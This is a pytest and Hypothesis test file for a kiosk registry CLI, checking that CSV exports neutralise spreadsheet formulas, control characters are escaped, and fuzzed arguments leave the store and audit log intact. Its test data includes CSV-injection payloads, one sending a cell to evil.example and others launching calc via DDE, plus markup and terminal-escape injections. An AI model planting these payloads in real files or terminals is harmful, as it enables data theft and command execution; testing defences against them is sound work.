"""Issue 12 part 5: hostile input gets one plain sentence and leaves the store unchanged."""
from __future__ import annotations

import csv
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from db.models import AuditEvent, Target
from kiosk import audit, registry
from kiosk.cli import main
from kiosk.errors import UserError
from kiosk.guard import FORMULA_START, csv_cell, csv_plain, cut
from tests.test_registry import T_HEAD, target_row, write_csv

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+cmd|' /C calc'!A0",
                 "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "[@click=app.quit]退出", "[/bold]未闭合"]


def test_csv_export_quotes_formulas_and_import_reads_them_back(db, tmp_path):
    rows = [target_row(i + 1, name) for i, name in enumerate(HOSTILE_NAMES)]
    registry.import_file("targets", write_csv(tmp_path / "in.csv", T_HEAD, rows), "clerk")
    out = tmp_path / "out.csv"
    registry.export_file("targets", out, "clerk")
    with open(out, encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    names = [r[1] for r in table[1:]]
    assert names == ["'" + n if n.lstrip("'")[0] in "=+-@" else n for n in HOSTILE_NAMES]
    assert not any(c.startswith(FORMULA_START) for r in table for c in r)
    registry.import_file("targets", out, "clerk")
    assert [t.name for t in Target.select().order_by(Target.id)] == HOSTILE_NAMES
    again = tmp_path / "again.csv"
    registry.export_file("targets", again, "clerk")
    assert again.read_bytes() == out.read_bytes()


@given(st.text(max_size=40))
def test_any_cell_survives_the_quote_and_never_starts_a_formula(value):
    quoted = csv_cell(value)
    assert not quoted.startswith(FORMULA_START)
    assert csv_plain(quoted) == value


def test_cut_keeps_echoes_short_and_escapes_control_characters():
    assert cut("x" * 10_000_000) == "x" * 200 + "…"
    assert cut("\x1b]52;c;ZXZpbA==\x07ok") == "\\x1b]52;c;ZXZpbA==\\x07ok"
    assert cut("扫码 正常") == "扫码 正常"


@pytest.fixture
def store(db, db_path, monkeypatch):
    registry.import_file("targets", write_csv(db_path.with_name("t.csv"), T_HEAD,
                                              [target_row(1)]), "clerk")
    monkeypatch.delenv("KIOSK_USER", raising=False)
    return db_path


def run(argv, capsys):
    code = main(argv)
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize(("argv", "said"), [
    (["tasks", "--year", "99999999999999999999"], "参数 --year 的值 99999999999999999999 超出范围"),
    (["summary", "--year", "-1"], "参数 --year 的值 -1 超出范围"),
    (["slips", "--draw", "99999999999999999999", "--out", "x.pdf"], "超出范围"),
    (["--db", "mysql://root@localhost/kiosk", "tasks"], "不支持的数据库地址“mysql:…”"),
    (["--db", "postgresq://localhost/kiosk", "tasks"], "不支持的数据库地址“postgresq:…”"),
    (["--db", "/dev/null", "tasks"], "“/dev/null”不是普通文件"),
    (["--db", "/", "tasks"], "是一个文件夹"),
])
def test_bad_arguments_get_one_plain_sentence(argv, said, capsys, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    code, _out, err = run(argv, capsys)
    assert code != 0 and said in err
    assert len(err.strip().splitlines()) == 1 and "Traceback" not in err
    assert not (tmp_path / "mysql:").exists() and not (tmp_path / "postgresq:").exists()


def test_a_closed_pipe_is_not_an_error(store, tmp_path):
    kiosk = Path(sys.executable).with_name("kiosk")
    p = subprocess.run(f"'{kiosk}' --db '{store}' tasks --json | true; exit ${{PIPESTATUS[0]}}",
                       shell=True,
                       capture_output=True, text=True, executable="/bin/bash",
                       env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path),
                            "KIOSK_SECRETS_DIR": str(tmp_path / "keys")})
    assert p.returncode == 0
    assert "Traceback" not in p.stderr and "Broken pipe" not in p.stderr


# Every command that neither opens the UI nor asks on the terminal (demo, watch, open, init).
COMMANDS = ["import", "export", "tasks", "draw", "record", "verify", "audit", "summary",
            "holidays", "user", "settings", "plan", "publish", "exchange", "cases", "case",
            "sanction", "dashboard", "slips"]
ARG = st.one_of(st.text(max_size=30), st.integers().map(str),
                st.sampled_from(["--year", "--db", "--json", "--out", "--check", "tasks",
                                 "99999999999999999999", "-1", "mysql://x", "/dev/null",
                                 "[@click=app.quit]x", "\x00", "\u202e"]))


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from(COMMANDS), st.lists(ARG, max_size=5))
def test_random_arguments_never_trace_back_and_change_nothing(store, capsys, tmp_path_factory,
                                                             command, argv):
    import os

    os.chdir(tmp_path_factory.mktemp("cwd"))
    before = (Target.select().count(), AuditEvent.select().count())
    try:
        code = main(["--db", str(store), command, *argv])
    except SystemExit as e:  # argparse's usage message (exit 2) or --help (exit 0)
        code = e.code
    _, err = capsys.readouterr()
    assert "Traceback" not in err
    assert code in (0, 1, 2, None) or isinstance(code, int)
    from db.connection import connect

    connect(store)
    assert Target.select().count() == before[0]
    # a refusal may be logged, nothing else is written
    written = {e.action for e in AuditEvent.select().where(AuditEvent.seq > before[1])}
    assert all(a.endswith(("refused", "denied")) or a.startswith(("auth.", "audit."))
               for a in written), written
    assert audit.verify()[0]


@settings(max_examples=80, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(max_size=300) | st.sampled_from(["[@click=app.quit]X", "https://kiosk.local/t/"
                                                "2026-07-0001?k=" + "A" * 40, "\x1b[2J"]))
def test_any_scan_payload_is_refused_in_one_sentence(store, payload):
    from kiosk import reports

    before = Target.select().count()
    result = reports.scan_slip(payload, None)
    assert result.refused or result.needs_login
    assert "\n" not in result.message and len(result.message) < 120
    assert Target.select().count() == before
    assert audit.verify()[0]


@settings(max_examples=40, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(st.lists(st.text(max_size=20), max_size=12), max_size=5))
def test_random_import_files_are_all_or_nothing(store, rows):
    path = store.with_name("random.csv")
    write_csv(path, T_HEAD, rows)
    before = [(t.uscc, t.name) for t in Target.select().order_by(Target.id)]
    try:
        registry.import_file("targets", path, "clerk")
    except UserError as e:
        assert str(e) and "Traceback" not in str(e)
        assert [(t.uscc, t.name) for t in Target.select().order_by(Target.id)] == before
    assert audit.verify()[0]


@pytest.mark.parametrize("argv", [
    ["settings", "set", "[b]" + "x" * 100_000, "1"],
    ["import", "targets", "x" * 100_000],
    ["tasks", "--bogus", "x" * 100_000],
])
def test_a_huge_argument_is_not_echoed_in_full(store, argv, capsys, monkeypatch):
    monkeypatch.setenv("KIOSK_USER", "admin")
    monkeypatch.setenv("KIOSK_PASSWORD", "admin-pass")
    from kiosk import auth

    auth.create_user("admin", "admin-pass", "admin")
    try:
        code = main(["--db", str(store), *argv])
    except SystemExit as e:
        code = e.code
    err = capsys.readouterr().err
    assert code != 0 and 0 < len(err) < 400 and "…" in err
